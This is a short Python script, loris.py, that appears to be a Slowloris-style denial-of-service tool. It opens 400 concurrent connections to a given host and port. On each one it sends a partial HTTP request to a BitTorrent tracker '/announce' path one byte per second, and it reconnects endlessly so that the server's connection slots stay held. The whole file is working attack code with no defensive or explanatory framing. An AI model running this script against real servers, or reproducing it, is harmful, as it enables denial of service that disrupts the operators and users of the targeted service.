"""400 connections that say a byte a second, until it is ended.

    loris.py HOST:PORT
"""
import asyncio
import sys

LINKS = 400


async def slowly(host: str, port: int) -> None:
    while True:
        try:
            _, write = await asyncio.open_connection(host, port)
            for byte in b"GET /announce?info_hash=":
                write.write(bytes([byte]))
                await write.drain()
                await asyncio.sleep(1)
            write.close()
        except OSError:
            await asyncio.sleep(1)


async def main() -> None:
    host, port = sys.argv[1].split(":")
    print("ready", flush=True)
    await asyncio.gather(*(slowly(host, int(port)) for _ in range(LINKS)))


if __name__ == "__main__":
    asyncio.run(main())
